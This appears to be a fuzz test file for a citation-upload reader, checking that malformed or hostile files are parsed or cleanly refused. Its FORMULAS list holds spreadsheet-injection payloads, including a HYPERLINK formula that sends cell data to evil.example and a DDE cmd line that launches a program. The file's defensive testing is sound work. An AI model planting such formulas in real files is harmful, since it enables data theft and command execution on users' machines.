import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCitationFile } from '../../../src/server/import/read-citation-file.ts';
import { ImportError } from '../../../src/server/import/types.ts';
import { fixture, scratchDir } from './fixture.helpers.ts';

const scratch = scratchDir();

/** Fixed so that a failure seen once is seen again; fast-check prints the counterexample and its path. */
const SEED = 20261123;
const RUNS = 100;
const SLOW_RUNS = 4;
/** A reader that takes this long on a few kilobytes has looped or backtracked, which is a hang to a user. */
const PER_FILE_MS = 5_000;

const TEXT_EXTENSIONS = ['csv', 'tsv', 'txt', 'ris', 'nbib', 'bib', 'xml'] as const;
const ALL_EXTENSIONS = [...TEXT_EXTENSIONS, 'xlsx', 'xls'] as const;

/**
 * The one promise every upload gets: the reader hands back citations and skipped rows, or refuses with
 * the import's own error and a message for the user. Anything else would reach the user as a 500.
 */
async function readsOrRefuses(content: Uint8Array | string, extension: string): Promise<void> {
  const name = `upload.${extension}`;
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`reading ${name} took over ${PER_FILE_MS} ms`)), PER_FILE_MS);
  });
  try {
    const parsed = await Promise.race([readCitationFile(scratch(name, content), name), hang]);
    expect(Array.isArray(parsed.citations) && Array.isArray(parsed.skipped)).toBe(true);
    for (const citation of parsed.citations) expect(citation.title.trim()).not.toBe('');
  } catch (error) {
    if (!(error instanceof ImportError)) throw error;
    expect(error.message.trim()).not.toBe('');
    expect(error.fileName).toBe(name);
  } finally {
    clearTimeout(timer);
  }
}

const extension = fc.constantFrom(...ALL_EXTENSIONS);
const textExtension = fc.constantFrom(...TEXT_EXTENSIONS);

/** Text made of the pieces each format is built from, in any order, so parsers meet their own syntax half-finished. */
function tokens(pieces: string[]): fc.Arbitrary<string> {
  return fc.array(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...pieces) }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) }), { maxLength: 120 }).map((parts) => parts.join(''));
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', '=1+2', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '=cmd|\' /C calc\'!A0', '\t=1'];
const csvText = tokens(['title', 'abstract', 'year', ',', ';', '\t', '"', '""', '\n', '\r\n', '\r', 'Aspirin', '\u0000', ' ', '\ufeff', ...FORMULAS]);
const risText = tokens(['TY  - JOUR\n', 'TI  - ', 'T1  - ', 'AB  - ', 'AU  - ', 'PY  - ', 'SP  - ', 'EP  - ', 'ER  - \n', 'ER  -\n', '\n', '\r\n', '  ', 'A title', '2019', '\u0000', ...FORMULAS]);
const nbibText = tokens(['PMID- 123\n', 'TI  - ', 'AB  - ', 'FAU - ', 'DP  - ', 'LID - 10.1/x [doi]\n', '      ', '\n', '\n\n', 'A title', '\u0000', ...FORMULAS]);
const bibText = tokens(['@article{', '@string{', '@comment{', '@preamble{', 'key,', 'title', 'author', ' = ', '{', '}', '"', '#', ',', '\\"o', '\\\'{e}', '{\\em ', '\\', ' and ', '\n', '%', '\u0000', ...FORMULAS]);
const xmlText = tokens([
  '<?xml version="1.0"?>', '<xml>', '</xml>', '<records>', '</records>', '<record>', '</record>', '<titles>', '</titles>', '<title>', '</title>',
  '<abstract>', '</abstract>', '<style face="italic">', '</style>', '<![CDATA[', ']]>', '<!--', '-->', '&amp;', '&#xD;', '&#0;', '&#xFFFFFF;', '&bogus;',
  '<!DOCTYPE x [<!ENTITY e "ee">]>', '&e;', '<', '>', '/', '"', "'", '=', 'A title', '\u0000', ...FORMULAS,
]);
const formatText = fc.oneof(csvText, risText, nbibText, bibText, xmlText);

/** Bytes that are not UTF-8: stray continuation bytes, truncated sequences, encoded surrogates, overlongs. */
const INVALID_UTF8 = [[0x80], [0xc3], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xc0, 0xaf], [0xff], [0xfe]];

/** Text encoded as UTF-8, then invalid bytes spliced in at random places. */
const invalidUtf8 = fc
  .tuple(formatText, fc.array(fc.tuple(fc.nat(), fc.constantFrom(...INVALID_UTF8)), { minLength: 1, maxLength: 6 }))
  .map(([text, splices]) => {
    const bytes = [...Buffer.from(text, 'utf8')];
    for (const [at, invalid] of splices) bytes.splice(bytes.length === 0 ? 0 : at % bytes.length, 0, ...invalid);
    return new Uint8Array(bytes);
  });

/** A byte-order mark that promises UTF-16, followed by whatever bytes, odd counts included. */
const falseUtf16 = fc.tuple(fc.constantFrom([0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb, 0xbf]), fc.uint8Array({ maxLength: 400 })).map(([bom, rest]) => new Uint8Array([...bom, ...rest]));

describe('a malformed upload', () => {
  it('of arbitrary bytes under any accepted extension is read or refused with a message', async () => {
    await fc.assert(fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), extension, readsOrRefuses), { seed: SEED, numRuns: RUNS });
  });

  it('made of half-finished CSV, RIS, MEDLINE, BibTeX and XML syntax is read or refused with a message', async () => {
    await fc.assert(fc.asyncProperty(formatText, textExtension, readsOrRefuses), { seed: SEED, numRuns: RUNS * 3 });
  });

  it('with invalid UTF-8 or a false byte-order mark is read or refused with a message', async () => {
    await fc.assert(fc.asyncProperty(fc.oneof(invalidUtf8, falseUtf16), textExtension, readsOrRefuses), { seed: SEED, numRuns: RUNS * 2 });
  });

  it('with NUL bytes among its text is refused as binary or read, never a crash', async () => {
    const withNuls = fc.tuple(formatText, fc.array(fc.nat(), { minLength: 1, maxLength: 5 })).map(([text, at]) => {
      const chars = [...text];
      for (const i of at) chars.splice(chars.length === 0 ? 0 : i % chars.length, 0, '\u0000');
      return chars.join('');
    });
    await fc.assert(fc.asyncProperty(withNuls, textExtension, readsOrRefuses), { seed: SEED, numRuns: RUNS });
  });

  it('with deeply nested quotes or braces is read or refused with a message', async () => {
    const nested = fc.tuple(fc.constantFrom('"', '""', '{', '}', '<record>', '<'), fc.integer({ min: 1_000, max: 50_000 }), textExtension).map(([piece, times, ext]) => [`title,abstract\n${piece.repeat(times)}`, ext] as const);
    await fc.assert(fc.asyncProperty(nested, ([content, ext]) => readsOrRefuses(content, ext)), { seed: SEED, numRuns: RUNS / 4 });
  });

  it('with one huge field of 1 to 5 MB is read or refused with a message', { timeout: 60_000 }, async () => {
    const huge = fc.tuple(fc.integer({ min: 1, max: 5 }), fc.constantFrom('a', '"', 'x,', '\u00e9'), textExtension).map(([mb, char, ext]) => {
      const field = char.repeat(Math.floor((mb * 1024 * 1024) / Buffer.byteLength(char)));
      const wrapped = {
        csv: `title,abstract\n"${field}",b\n`,
        tsv: `title\tabstract\n${field}\tb\n`,
        txt: `title,abstract\n${field},b\n`,
        ris: `TY  - JOUR\nTI  - ${field}\nER  - \n`,
        nbib: `PMID- 1\nTI  - ${field}\n`,
        bib: `@article{k, title = {${field}}}`,
        xml: `<xml><records><record><titles><title>${field}</title></titles></record></records></xml>`,
      }[ext];
      return [wrapped, ext] as const;
    });
    await fc.assert(fc.asyncProperty(huge, ([content, ext]) => readsOrRefuses(content, ext)), { seed: SEED, numRuns: SLOW_RUNS });
  });
});

describe('a damaged workbook', () => {
  const workbooks = ['citations.xlsx', 'citations.xls'].map((name) => new Uint8Array(readFileSync(fixture(name))));

  /** A real workbook with bytes overwritten or cut off: the zip or compound document is damaged, not foreign. */
  const damaged = fc
    .tuple(fc.constantFrom(...workbooks), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }), fc.option(fc.nat()))
    .map(([original, flips, cut]) => {
      const bytes = original.slice();
      for (const [at, value] of flips) bytes[at % bytes.length] = value;
      return cut === null ? bytes : bytes.subarray(0, Math.max(8, cut % bytes.length));
    });

  /** A zip or compound-document signature followed by noise, so the workbook readers, not the sniffing, see it. */
  const signed = fc.tuple(fc.constantFrom([0x50, 0x4b, 0x03, 0x04], [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), fc.uint8Array({ maxLength: 2048 })).map(([magic, rest]) => new Uint8Array([...magic, ...rest]));

  it('with corrupted or truncated bytes is read or refused with a message', async () => {
    await fc.assert(fc.asyncProperty(damaged, fc.constantFrom('xlsx', 'xls'), readsOrRefuses), { seed: SEED, numRuns: RUNS });
  });

  it('that is noise behind a workbook signature is refused with a message', async () => {
    await fc.assert(fc.asyncProperty(signed, fc.constantFrom('xlsx', 'xls'), readsOrRefuses), { seed: SEED, numRuns: RUNS });
  });
});
